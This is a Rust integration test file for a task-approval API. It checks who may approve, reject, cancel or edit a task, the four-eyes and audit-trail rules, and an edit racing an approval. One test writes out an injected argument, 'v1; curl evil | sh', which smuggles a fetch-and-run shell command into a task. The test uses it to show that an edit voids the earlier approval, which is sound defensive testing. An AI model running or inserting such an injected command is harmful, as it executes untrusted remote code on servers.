//! Approve, reject, cancel: who may, from which status, and what is recorded.

use serde_json::json;

use crate::both_backends;
use crate::helpers::{spawn_app, Backend};

fn actions_of(task: &serde_json::Value) -> Vec<String> {
    task["actions"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().to_string()).collect()
}

/// Every action a task's answer offers its caller is accepted, and every other one is
/// refused: the answer (and the UI's buttons) never promise what the server refuses.
async fn the_answer_offers_each_caller_exactly_the_actions_the_server_accepts(backend: Backend) {
    let app = spawn_app(backend).await;
    let template = app.deploy_template().await;
    let owner = app.user("oscar", "operator", &[]).await;
    let other = app.user("olga", "operator", &[]).await;
    let approver = app.user("april", "approver", &[]).await;
    let viewer = app.user("vic", "viewer", &[]).await;
    let id = app.submit(&owner, template, "new").await.expect(201)["id"].as_i64().unwrap();
    let path = format!("/api/v1/tasks/{id}");
    let offered = async |token: &str| actions_of(&app.get(&path, token).await.expect(200));
    assert_eq!(offered(&owner).await, ["cancel", "edit"], "the submitter may not approve");
    assert_eq!(offered(&other).await, Vec::<String>::new());
    assert_eq!(offered(&viewer).await, Vec::<String>::new());
    assert_eq!(offered(&approver).await, ["approve", "reject", "cancel"]);
    assert_eq!(offered(&app.admin_token).await, ["approve", "reject", "cancel", "edit"]);
    // What is not offered is refused.
    for (token, verb) in [(&owner, "approve"), (&other, "cancel"), (&viewer, "approve"), (&other, "reject")] {
        let status = app.post(&format!("{path}/{verb}"), token, &json!({})).await.status;
        assert!(status == 403, "{verb} was not offered but answered {status}");
    }
    app.patch(&path, &other, &json!({"details": "mine now"})).await.expect(403);
    // An admin who edits it may not approve it any more: the offer follows.
    app.patch(&path, &app.admin_token, &json!({"details": "checked"})).await.expect(200);
    assert_eq!(offered(&app.admin_token).await, ["reject", "cancel", "edit"]);
    app.post(&format!("{path}/approve"), &app.admin_token, &json!({})).await.expect(403);
    // The approver approves: what is offered then is what a ready task allows.
    let ready = app.post(&format!("{path}/approve"), &approver, &json!({})).await.expect(200);
    assert_eq!(actions_of(&ready), ["cancel"], "the answer to the approver's action is for the approver");
    assert_eq!(offered(&owner).await, ["cancel", "edit"]);
}

async fn approve_moves_new_to_ready_and_records_who_when_and_the_digest(backend: Backend) {
    let app = spawn_app(backend).await;
    let template = app.deploy_template().await;
    let op = app.user("otto", "operator", &[]).await;
    let approver = app.user("april", "approver", &[]).await;
    let task = app.submit(&op, template, "new").await.expect(201);
    let path = format!("/api/v1/tasks/{}", task["id"]);
    // No body at all is fine: the comment is optional.
    let approved = app.send(reqwest::Method::POST, &format!("{path}/approve"), Some(&approver), None).await.expect(200);
    assert_eq!(approved["status"], "ready");
    assert_eq!(approved["approval"]["decision"], "approved");
    assert_eq!(approved["approval"]["by"], "april");
    assert_eq!(approved["approval"]["digest"], task["digest"], "bound to what was submitted");
    // A second approval, a rejection or a second decision all meet the new status.
    for action in ["approve", "reject"] {
        let e = app.post(&format!("{path}/{action}"), &approver, &json!({})).await.expect_error(
            409,
            "invalid_transition",
            None,
        );
        assert_eq!(e["current_status"], "ready");
    }
}

async fn reject_is_final_and_cancel_is_refused_afterwards(backend: Backend) {
    let app = spawn_app(backend).await;
    let template = app.deploy_template().await;
    let op = app.user("otto", "operator", &[]).await;
    let approver = app.user("april", "approver", &[]).await;
    let path = format!("/api/v1/tasks/{}", app.submit(&op, template, "new").await.expect(201)["id"]);
    let rejected = app.post(&format!("{path}/reject"), &approver, &json!({"comment": "wrong tag"})).await.expect(200);
    assert_eq!(rejected["status"], "rejected");
    assert_eq!(rejected["approval"]["comment"], "wrong tag");
    let e = app.post(&format!("{path}/cancel"), &op, &json!({})).await.expect_error(409, "invalid_transition", None);
    assert_eq!(e["current_status"], "rejected");
    app.post(&format!("{path}/approve"), &approver, &json!({})).await.expect(409);
}

async fn cancel_works_from_new_and_ready_by_submitter_or_approver_only(backend: Backend) {
    let app = spawn_app(backend).await;
    let template = app.deploy_template().await;
    let op = app.user("otto", "operator", &[]).await;
    let other = app.user("olga", "operator", &[]).await;
    let approver = app.user("april", "approver", &[]).await;
    let new = format!("/api/v1/tasks/{}", app.submit(&op, template, "new").await.expect(201)["id"]);
    let ready = format!("/api/v1/tasks/{}", app.submit(&op, template, "ready").await.expect(201)["id"]);
    app.post(&format!("{new}/cancel"), &other, &json!({})).await.expect_error(403, "forbidden", None);
    assert_eq!(app.post(&format!("{new}/cancel"), &op, &json!({})).await.expect(200)["status"], "cancelled");
    assert_eq!(
        app.post(&format!("{ready}/cancel"), &approver, &json!({"comment": "freeze"})).await.expect(200)["status"],
        "cancelled"
    );
    let e = app.post(&format!("{ready}/cancel"), &op, &json!({})).await.expect_error(409, "invalid_transition", None);
    assert_eq!(e["current_status"], "cancelled");
    app.post("/api/v1/tasks/999/cancel", &op, &json!({})).await.expect_error(404, "not_found", None);
}

async fn submitters_cannot_approve_their_own_task_unless_the_policy_allows(backend: Backend) {
    let app = spawn_app(backend).await;
    let template = app.deploy_template().await;
    let approver = app.user("april", "approver", &[]).await;
    let path = format!("/api/v1/tasks/{}", app.submit(&approver, template, "new").await.expect(201)["id"]);
    let e = app.post(&format!("{path}/approve"), &approver, &json!({})).await.expect_error(403, "forbidden", None);
    assert!(e["message"].as_str().unwrap().contains("another person"));
    // Admins are no exception to four eyes.
    let admin_task = format!("/api/v1/tasks/{}", app.submit(&app.admin_token, template, "new").await.expect(201)["id"]);
    app.post(&format!("{admin_task}/approve"), &app.admin_token, &json!({})).await.expect(403);
    // Rejecting your own task is always allowed.
    app.post(&format!("{admin_task}/reject"), &app.admin_token, &json!({})).await.expect(200);

    app.put("/api/v1/policy", &app.admin_token, &json!({"allow_self_approval": true})).await.expect(200);
    app.post(&format!("{path}/approve"), &approver, &json!({})).await.expect(200);
}

async fn the_templates_approver_group_may_approve_its_tasks(backend: Backend) {
    let app = spawn_app(backend).await;
    let t = &app.admin_token;
    let tpl = app
        .post(
            "/api/v1/templates",
            t,
            &json!({"name": "db", "approver_group": "dba", "steps": [{"name": "s", "group": "1", "script": "true"}]}),
        )
        .await
        .expect(201);
    let op = app.user("otto", "operator", &[]).await;
    let dba = app.user("dana", "operator", &["dba"]).await;
    let outsider = app.user("oscar", "operator", &["web"]).await;
    let body = json!({"template_id": tpl["id"], "schedule": "new", "hosts": {"1": ["db-1"]}});
    let path = format!("/api/v1/tasks/{}", app.post("/api/v1/tasks", &op, &body).await.expect(201)["id"]);
    let e = app.post(&format!("{path}/approve"), &outsider, &json!({})).await.expect_error(403, "forbidden", None);
    assert!(e["message"].as_str().unwrap().contains("dba"));
    assert_eq!(app.post(&format!("{path}/approve"), &dba, &json!({})).await.expect(200)["approval"]["by"], "dana");
}

async fn empty_audit_filters_mean_any(backend: Backend) {
    let app = spawn_app(backend).await;
    let template = app.deploy_template().await;
    app.submit(&app.admin_token, template, "new").await.expect(201);
    let all = app.get("/api/v1/audit", &app.admin_token).await.expect(200);
    assert!(all["total"].as_i64().unwrap() > 0);
    let blank = app.get("/api/v1/audit?actor=&action=&object_type=&object_id=", &app.admin_token).await.expect(200);
    assert_eq!(blank["total"], all["total"], "blank filters are no filters");
    let some = app.get("/api/v1/audit?action=task.submit&actor=", &app.admin_token).await.expect(200);
    assert_eq!(some["total"], 1);
}

async fn every_change_is_in_the_audit_trail(backend: Backend) {
    let app = spawn_app(backend).await;
    let template = app.deploy_template().await;
    let op = app.user("otto", "operator", &[]).await;
    let approver = app.user("april", "approver", &[]).await;
    let id = app.submit(&op, template, "new").await.expect(201)["id"].as_i64().unwrap();
    app.post(&format!("/api/v1/tasks/{id}/approve"), &approver, &json!({"comment": "go"})).await.expect(200);
    let token = app.post("/api/v1/tokens", &op, &json!({"name": "ci"})).await.expect(201);
    app.delete(&format!("/api/v1/tokens/{}", token["info"]["id"].as_str().unwrap()), &op).await.expect(200);

    let audit = app.get("/api/v1/audit?per_page=100", &app.admin_token).await.expect(200);
    let actions: Vec<(String, String)> = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["actor"].as_str().unwrap().to_string(), e["action"].as_str().unwrap().to_string()))
        .collect();
    for expected in [
        ("system", "user.create"),
        ("admin", "command.create"),
        ("admin", "alias.create"),
        ("admin", "template.create"),
        ("admin", "user.create"),
        ("otto", "task.submit"),
        ("april", "task.approve"),
        ("otto", "token.create"),
        ("otto", "token.revoke"),
    ] {
        assert!(
            actions.contains(&(expected.0.to_string(), expected.1.to_string())),
            "missing {expected:?} in {actions:?}"
        );
    }
    assert_eq!(actions[0], ("otto".to_string(), "token.revoke".to_string()), "newest first");
    let approve = audit["items"].as_array().unwrap().iter().find(|e| e["action"] == "task.approve").unwrap();
    assert_eq!(approve["object_type"], "task");
    assert_eq!(approve["object_id"], id.to_string());
    assert_eq!(approve["detail"]["comment"], "go");
    assert_eq!(approve["remote_addr"], "127.0.0.1");
    let only_task =
        app.get(&format!("/api/v1/audit?object_type=task&object_id={id}"), &app.admin_token).await.expect(200);
    assert_eq!(only_task["total"], 2);
}

async fn a_token_with_only_task_approve_can_decide(backend: Backend) {
    let app = spawn_app(backend).await;
    let template = app.deploy_template().await;
    let op = app.user("otto", "operator", &[]).await;
    let approver = app.user("april", "approver", &[]).await;
    let t = app
        .post("/api/v1/tokens", &approver, &json!({"name": "chatops", "scopes": ["task:approve"]}))
        .await
        .expect(201);
    let token = t["token"].as_str().unwrap();
    let path = format!("/api/v1/tasks/{}", app.submit(&op, template, "new").await.expect(201)["id"]);
    let approved = app.post(&format!("{path}/approve"), token, &json!({})).await.expect(200);
    assert_eq!(approved["approval"]["by"], "april");
    assert!(approved["approval_deadline"].is_null());
    app.get(&path, token).await.expect_error(403, "forbidden", None);
}

async fn templates_that_require_approval_refuse_ready_submissions(backend: Backend) {
    let app = spawn_app(backend).await;
    let t = &app.admin_token;
    let tpl = app
        .post(
            "/api/v1/templates",
            t,
            &json!({"name": "prod db", "require_approval": true,
            "steps": [{"name": "s", "group": "1", "script": "true"}]}),
        )
        .await
        .expect(201);
    assert_eq!(tpl["require_approval"], true);
    let body = |schedule: &str| json!({"template_id": tpl["id"], "schedule": schedule, "hosts": {"1": ["db-1"]}});
    let e = app.post("/api/v1/tasks", t, &body("ready")).await.expect_error(422, "invalid", Some("schedule"));
    assert!(e["message"].as_str().unwrap().contains("requires approval"));
    assert_eq!(app.post("/api/v1/tasks", t, &body("new")).await.expect(201)["status"], "new");
}

async fn whoever_changed_a_task_cannot_approve_it_not_even_an_admin(backend: Backend) {
    let app = spawn_app(backend).await;
    let t = &app.admin_token;
    let tpl = app
        .post(
            "/api/v1/templates",
            t,
            &json!({"name": "prod db", "require_approval": true,
            "steps": [{"name": "s", "group": "1", "script": "echo {{ TAG }}"}]}),
        )
        .await
        .expect(201);
    let op = app.user("otto", "operator", &[]).await;
    let april = app.user("april", "approver", &[]).await;
    let body = json!({"template_id": tpl["id"], "schedule": "new", "args": {"TAG": "v1"},
                      "hosts": {"1": ["db-1"]}, "exec_time": "2035-01-01 00:00:00"});
    let task = app.post("/api/v1/tasks", &op, &body).await.expect(201);
    let path = format!("/api/v1/tasks/{}", task["id"]);
    app.post(&format!("{path}/approve"), &april, &json!({})).await.expect(200);
    // The attack: an admin rewrites someone else's approved task, then approves it himself.
    let changed = app.patch(&path, t, &json!({"args": {"TAG": "v1; curl evil | sh"}})).await.expect(200);
    assert_eq!(changed["status"], "new", "the approval was for the old contents");
    assert_eq!(changed["editors"], json!(["admin"]));
    let e = app.post(&format!("{path}/approve"), t, &json!({})).await.expect_error(403, "forbidden", None);
    assert!(e["message"].as_str().unwrap().contains("changed task"), "{e}");
    // The same for an approver who edits; a third person may approve.
    let bert = app.user("bert", "approver", &[]).await;
    let changed = app.patch(&path, &op, &json!({"args": {"TAG": "v2"}})).await.expect(200);
    assert_eq!(changed["editors"], json!(["admin", "otto"]));
    app.post(&format!("{path}/approve"), &op, &json!({})).await.expect(403);
    let approved = app.post(&format!("{path}/approve"), &april, &json!({})).await.expect(200);
    assert_eq!(approved["status"], "ready");
    assert_eq!(approved["approval"]["by"], "april");
    // Rejecting is not approving: an editor may still stop a task.
    let other = app.post("/api/v1/tasks", &op, &body).await.expect(201);
    let other = format!("/api/v1/tasks/{}", other["id"]);
    app.patch(&other, &bert, &json!({"details": "checked"})).await.expect(403);
    app.patch(&other, t, &json!({"details": "checked"})).await.expect(200);
    assert_eq!(app.post(&format!("{other}/reject"), t, &json!({})).await.expect(200)["status"], "rejected");
    // With the self-approval policy on, an editor may approve.
    let third = app.post("/api/v1/tasks", &op, &body).await.expect(201);
    let third = format!("/api/v1/tasks/{}", third["id"]);
    app.patch(&third, t, &json!({"details": "looked at it"})).await.expect(200);
    app.put("/api/v1/policy", t, &json!({"allow_self_approval": true})).await.expect(200);
    assert_eq!(app.post(&format!("{third}/approve"), t, &json!({})).await.expect(200)["status"], "ready");
}

/// An edit and an approval by the same admin sent at once: whatever order they land in,
/// a `ready` task is never approved by one of its editors, nor for other contents.
async fn an_edit_racing_an_approval_never_yields_a_self_approved_task(backend: Backend) {
    let app = spawn_app(backend).await;
    let t = &app.admin_token;
    let template = app.deploy_template().await;
    let op = app.user("otto", "operator", &[]).await;
    for round in 0..12 {
        let task = app.submit(&op, template, "new").await.expect(201);
        let path = format!("/api/v1/tasks/{}", task["id"]);
        let tag = format!("release-9.{round}");
        let (edit_body, approve_path, empty) = (json!({"args": {"TAG": tag}}), format!("{path}/approve"), json!({}));
        let (edited, approved) = tokio::join!(app.patch(&path, t, &edit_body), app.post(&approve_path, t, &empty));
        assert!([200, 409].contains(&edited.status.as_u16()), "edit: {:?}", edited);
        assert!([200, 403, 409].contains(&approved.status.as_u16()), "approve: {:?}", approved);
        let now = app.get(&path, t).await.expect(200);
        if now["status"] == "ready" {
            assert_eq!(now["approval"]["digest"], now["digest"], "approved for other contents: {now}");
            let editors = now["editors"].as_array().unwrap();
            assert!(!editors.contains(&now["approval"]["by"]), "self-approved after an edit: {now}");
        }
    }
}

both_backends!(
    empty_audit_filters_mean_any,
    the_answer_offers_each_caller_exactly_the_actions_the_server_accepts,
    an_edit_racing_an_approval_never_yields_a_self_approved_task,
    whoever_changed_a_task_cannot_approve_it_not_even_an_admin,
    a_token_with_only_task_approve_can_decide,
    templates_that_require_approval_refuse_ready_submissions,
    approve_moves_new_to_ready_and_records_who_when_and_the_digest,
    reject_is_final_and_cancel_is_refused_afterwards,
    cancel_works_from_new_and_ready_by_submitter_or_approver_only,
    submitters_cannot_approve_their_own_task_unless_the_policy_allows,
    the_templates_approver_group_may_approve_its_tasks,
    every_change_is_in_the_audit_trail,
);
